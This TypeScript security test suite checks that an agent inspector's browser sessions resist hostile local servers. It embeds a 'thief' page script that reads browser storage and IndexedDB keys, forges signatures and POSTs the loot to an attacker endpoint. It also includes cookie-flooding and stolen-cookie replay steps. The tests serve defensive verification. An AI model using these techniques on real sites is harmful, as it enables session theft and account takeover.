/**
 * The inspector's page in a real browser, over a real daemon, beside processes that want its session: one that listens on
 * another port, and one that takes the inspector's own port while the daemon is down. What they hear opens nothing.
 */

import { readFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { join } from 'node:path';
import { pipeline } from 'node:stream';
import t from 'tap';
import type { JsonObject } from '../../machines/base/json.ts';
import {
  axeFindings,
  clippedParts,
  goTo,
  linkOf,
  type OpenPage,
  openBlank,
  openContext,
  openInspector,
  options,
} from '../support/browser.ts';
import { runCli, startDaemon } from '../support/daemon.ts';
import { makeHome } from '../support/home.ts';
import { freePort, listenHttp } from '../support/http-listener.ts';
import { ask, sessionIn } from '../support/inspector.ts';
import { commandOf, eventually, startGateway } from '../support/mcp/gateway.ts';
import { stdioPeer } from '../support/mcp/stdio-peer.ts';
import { startThief, tryHeard } from '../support/thief.ts';
import { makeCertificates } from '../support/tls.ts';

const configOf = (port: number): JsonObject => ({ inspector: { port }, agent: { runner: 'echo' } });
const live = (page: OpenPage['page']) =>
  page
    .getByRole('status')
    .filter({ hasText: /^Live$/ })
    .waitFor();

/** The page of a thief on the inspector's own port: to a browser it is the same origin. */
const thiefPage = `<!doctype html><title>a thief</title><script>
const loot = [];
const opened = (name) => new Promise((resolve) => {
  const opening = indexedDB.open(name);
  opening.onsuccess = () => resolve(opening.result);
});
const all = (database, name) => new Promise((resolve) => {
  const asked = database.transaction(name).objectStore(name).getAll();
  asked.onsuccess = () => resolve(asked.result);
});
(async () => {
  for (const kept of [localStorage, sessionStorage]) loot.push(...Object.values({ ...kept }));
  for (const { name } of await indexedDB.databases()) {
    const database = await opened(name);
    for (const store of database.objectStoreNames) {
      for (const { id, key } of await all(database, store)) {
        loot.push(id);
        loot.push(await crypto.subtle.exportKey('raw', key).then((bytes) => 'key ' + btoa(String.fromCharCode(...new Uint8Array(bytes))), () => 'not exported'));
        for (const nonce of ['', 'A'.repeat(43)]) {
          const text = JSON.stringify(['page', id, location.origin, nonce]);
          const signed = await crypto.subtle.sign('HMAC', key, new TextEncoder().encode(text));
          loot.push(btoa(String.fromCharCode(...new Uint8Array(signed))).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', ''));
        }
      }
    }
  }
  await fetch('/loot', { method: 'POST', body: JSON.stringify(loot) });
})();
</script>`;

t.test('SEC-1 · what a listener on another port hears opens nothing', options, async (t) => {
  const gateway = await startGateway(t, {}, { config: configOf(0) });
  const { page, context } = await openInspector(t, gateway);
  const { origin } = new URL(page.url());
  const thief = await startThief(t, 0, () => '<!doctype html><title>a dev server</title>');
  const other = await context.newPage();

  await other.goto(`http://127.0.0.1:${thief.port}/`);

  const [heard] = thief.heard;
  t.match(heard?.headers.cookie, /agent_inspector_\d+=/, 'browsers know no ports there');
  t.same(await tryHeard(origin, heard?.headers ?? {}), [401, 401]);
  // The cookie is enough for a greeting, which is worth nothing without the key.
  const challenge = 'x'.repeat(43);
  const cookie = heard?.headers.cookie ?? '';
  const greeting = await ask(`${origin}/hello`, { headers: { cookie, 'x-agent-inspector-challenge': challenge } });
  const { nonce, proof } = JSON.parse(greeting.body) as Readonly<Record<string, string>>;
  for (const guess of [nonce, proof, challenge]) {
    t.same(await tryHeard(origin, { cookie, 'x-agent-inspector-proof': guess }), [401, 401]);
  }
  t.same(await other.evaluate('indexedDB.databases()'), [], 'what the page keeps is of its own port');
  await live(page);
});

t.test('SEC-1 · cookies that a page on another port sets do not keep the page from opening', options, async (t) => {
  const gateway = await startGateway(t, {}, { config: configOf(0) });
  const { page, context } = await openInspector(t, gateway);
  const thief = await startThief(t, 0, () => '<!doctype html><title>a dev server</title>');
  const other = await context.newPage();
  await other.goto(`http://127.0.0.1:${thief.port}/`);

  const older = sessionIn((await ask(await linkOf(gateway))).body).id;

  // Fewer than a browser keeps of one host, so that it drops none.
  const kept = await other.evaluate(`(() => {
    const name = 'agent_inspector_${new URL(page.url()).port}';
    document.cookie = name + '=guess; path=/rpc';
    for (const path of ['/hello', '/stream', '/actor']) document.cookie = name + '=${older}; path=' + path;
    for (let at = 0; at < 160; at += 1) document.cookie = 'b' + at + '=' + 'z'.repeat(4000) + '; path=/';
    return document.cookie.length;
  })()`);

  t.ok(Number(kept) > 640_000, `${kept} characters of cookies`);
  await page.reload();
  await live(page);
  await page.goto(await linkOf(gateway));
  await live(page);
});

t.test('SEC-1 · what takes the port of a stopped daemon hears nothing that opens the next', options, async (t) => {
  const port = await freePort();
  const origin = `http://127.0.0.1:${port}`;
  const gateway = await startGateway(t, {}, { config: configOf(port) });
  const { page, context } = await openInspector(t, gateway);
  await gateway.daemon.kill('SIGTERM');
  await page.getByText('Offline', { exact: true }).waitFor();

  let taken: readonly string[] | undefined;
  const guess = JSON.stringify({ nonce: 'A'.repeat(43), proof: 'A'.repeat(43) });
  const thief = await startThief(t, port, ({ path, body }) => {
    if (path === '/loot') taken = JSON.parse(body) as readonly string[];
    return path === '/hello' ? guess : thiefPage;
  });
  await eventually(() => thief.heard.length > 2);
  const fromPage = [...thief.heard];
  const lured = await context.newPage();
  await lured.goto(`${origin}/`);
  const loot = await eventually(() => taken);
  await lured.close();
  t.ok(
    fromPage.every(({ headers }) => headers['x-agent-inspector-proof'] === undefined),
    'the page signed nothing',
  );
  t.ok(
    fromPage.every(({ path, body }) => path === '/hello' && body === ''),
    'and asked for nothing',
  );
  t.ok(loot.includes('not exported'), 'nor can a script of the same origin take the key');
  t.notMatch(loot.join(), /key /);

  await thief.close();
  await startDaemon(t, gateway.home.path);

  await live(page);
  for (const { headers } of thief.heard) t.same(await tryHeard(origin, headers), [401, 401]);
  const { cookie } = fromPage[0]?.headers ?? {};
  for (const proof of loot) {
    t.same(
      await tryHeard(origin, { cookie, 'x-agent-inspector-proof': proof, 'x-agent-inspector-key': proof }),
      [401, 401],
    );
  }
  await page.reload();
  await live(page);
  const second = await context.newPage();
  await second.goto(`${origin}/#/events`);
  await live(second);
});

t.test('SEC-1 · the browser opens the link by a file, and the page outlives a reload', options, async (t) => {
  const gateway = await startGateway(t, {}, { config: configOf(0) });
  const user = makeHome(t, { 'scripts/browser.sh': '#!/bin/sh\necho "$@" > "$(dirname "$0")/../argv"\n' });
  const { page } = await openBlank(t);
  const env = { BROWSER: join(user.path, 'scripts/browser.sh'), HOME: user.path, DISPLAY: '' };

  const command = runCli(['inspect', '--web'], gateway.home.path, env);
  const address = await eventually(() => {
    try {
      return readFileSync(join(user.path, 'argv'), 'utf8');
    } catch {
      return undefined;
    }
  });

  t.match(address, /^file:\/\/\/\S+\/open\.html\n$/);
  t.notMatch(address, /token/);
  await page.goto(address.trim());
  await live(page);
  t.equal((await command).code, 0);
  await page.reload();
  await live(page);
  t.match(page.url(), /^http:\/\/127\.0\.0\.1:\d+\/$/);
});

t.test('SEC-1 · LNK-3 · a program is added after a fresh link, where the person was', options, async (t) => {
  const gateway = await startGateway(t, {}, { config: configOf(0), timePasses: true });
  const { page, context } = await openInspector(t, gateway);
  const config = Buffer.from(JSON.stringify(commandOf(stdioPeer()))).toString('base64url');
  await gateway.daemon.pass(600_000);
  await goTo(
    page,
    `#/servers?${new URLSearchParams({ add: '1', link: `agent://mcp/install?name=late&config=${config}` })}`,
  );
  const dialog = page.getByRole('dialog', { name: 'Add server' });
  await dialog.getByRole('button', { name: 'Add the command' }).click();
  await dialog.getByRole('alert').filter({ hasText: 'agent inspect --web' }).waitFor();
  t.same(await axeFindings(page), []);
  t.same(await gateway.list(), [], 'nothing was added');

  const other = await context.newPage();
  await other.goto(await linkOf(gateway));
  await live(other);
  await dialog.getByRole('button', { name: 'Add the command' }).click();

  await page.getByRole('heading', { name: 'late' }).waitFor();
  await gateway.reaches('late', 'connected', 'lazy');
});

t.test('SEC-1 · INS-2 · a page whose session was ended says how to open another', options, async (t) => {
  const gateway = await startGateway(t, {}, { config: configOf(0) });
  const { page } = await openInspector(t, gateway);
  await goTo(page, '#/actors?q=journal');
  await page.getByRole('treeitem', { name: /journal/ }).waitFor();

  t.match((await gateway.cli('inspect', '--end-sessions')).stdout, /^1 session of the inspector page ended\.$/m);

  await page.getByRole('heading', { name: 'Your session has ended.' }).waitFor();
  t.equal(await page.getByText('journal').count(), 0, 'nothing of what was shown is left');
  t.equal(await page.getByRole('button').count(), 0, 'no button seems to sign in, since only a link does');
  t.same(await axeFindings(page), []);
  const second = await page.context().newPage();
  await second.goto(await linkOf(gateway));
  await live(second);
  t.match(second.url(), /#\/actors\?q=journal$/, 'the next link goes on at the same place');
  await live(page);
});

t.test(
  'SEC-1 · a user signs in with a password behind a proxy by HTTPS, and goes on where they were',
  options,
  async (t) => {
    const password = 'q8Zr4Lk2Wm7Tn1-Vx5';
    const port = await freePort();
    const certificates = makeCertificates(makeHome(t).path);
    // The proxy begins to listen before the daemon has its address.
    const { url } = await listenHttp(
      t,
      (request, response) => {
        const { method, headers } = request;
        const onward = httpRequest({ host: '127.0.0.1', port, path: request.url, method, headers }, (answer) => {
          response.writeHead(answer.statusCode ?? 502, answer.headers);
          // Also ends what the daemon breaks off, such as a stream.
          pipeline(answer, response, () => undefined);
        });
        // As proxies answer for what does not listen.
        onward.on('error', () => (response.headersSent ? response.destroy() : response.writeHead(502).end()));
        request.pipe(onward);
      },
      { tls: { cert: certificates.read(certificates.serverCert), key: certificates.read(certificates.serverKey) } },
    );
    const publicUrl = `https://agent.invalid:${new URL(url).port}`;
    const inspector = {
      port,
      public_url: publicUrl,
      users: { maya: { password, role: 'reader' }, noor: { password } },
    };
    const gateway = await startGateway(t, {}, { config: { inspector, agent: { runner: 'echo' } }, timePasses: true });
    // The listener may open a moment after the gateway.
    t.match(await eventually(() => linkOf(gateway).catch(() => undefined)), publicUrl);
    const context = await openContext(t, { ignoreHTTPSErrors: true });
    const page = await context.newPage();
    await page.goto(`${publicUrl}/#/servers`);
    await page.getByRole('heading', { name: 'Sign in' }).waitFor();
    t.same(await axeFindings(page), []);
    await page.locator('[autocomplete=username]:focus').fill('maya');
    await page.getByLabel('Password').fill('wrong');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('alert').filter({ hasText: 'the name or the password is wrong' }).waitFor();
    await page.locator('[type=password]:focus').waitFor();
    t.equal(await page.getByLabel('Password').getAttribute('autocomplete'), 'current-password');
    t.equal(await page.getByLabel('Password').getAttribute('aria-invalid'), 'true');
    t.same(await axeFindings(page), []);
    await page.getByLabel('Password').fill(password);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await live(page);
    await page.getByRole('heading', { name: 'Servers', level: 1 }).waitFor();
    await page.getByText('maya · read-only access').waitFor();
    t.equal(await page.evaluate('location.hash'), '#/servers');

    const second = await context.newPage();
    await second.goto(`${publicUrl}/#/events`);
    await live(second);
    for (const width of [320, 900]) {
      await second.setViewportSize({ width, height: 800 });
      if (width === 320) await second.getByRole('button', { name: 'More' }).click();
      t.same(await clippedParts(second), [], `${width}`);
      t.same(await axeFindings(second), [], `${width}`);
    }
    const stolen = await context.cookies();
    await page.keyboard.press('Control+k');
    await page.getByRole('option', { name: 'Sign out' }).click();
    await page.getByRole('heading', { name: 'Sign in' }).waitFor();
    t.match([await page.evaluate('location.hash'), (await context.cookies()).length], ['', 0]);
    await second.getByRole('heading', { name: 'Your session has ended.' }).waitFor();
    await context.addCookies(stolen);
    await page.reload();
    await page.getByRole('heading', { name: 'Sign in' }).waitFor();
    await page.getByLabel('Name').fill('maya');
    await page.getByLabel('Password').fill(password);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await live(page);
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByRole('heading', { name: 'Sign in' }).waitFor();
    t.match(JSON.stringify(await gateway.control.call('audit.list')), /"who":"maya","from":"page","what":"signed out"/);

    const operator = await (await openContext(t, { ignoreHTTPSErrors: true })).newPage();
    await operator.goto(`${publicUrl}/#/routes/default/ping`);
    await operator.getByLabel('Name').fill('noor');
    await operator.getByLabel('Password').fill(password);
    await operator.getByRole('button', { name: 'Sign in' }).click();
    await live(operator);
    await gateway.daemon.pass(600_000);
    await operator.getByLabel('Stop after the checks').uncheck();
    await operator.getByRole('button', { name: 'Send test event' }).click();
    await operator.getByRole('alert').filter({ hasText: 'needs your password again' }).waitFor();
    t.same(await axeFindings(operator), []);
    await operator.getByLabel('Password').fill(password);
    await operator.getByRole('button', { name: 'Sign in' }).click();
    await operator.getByText('Signed in.').waitFor();
    await operator.getByRole('button', { name: 'Send test event' }).click();
    await operator.getByText(/^HTTP 20\d$/).waitFor();

    gateway.daemon.kill('SIGKILL');
    await operator.getByText(/^Offline since /).waitFor();
  },
);
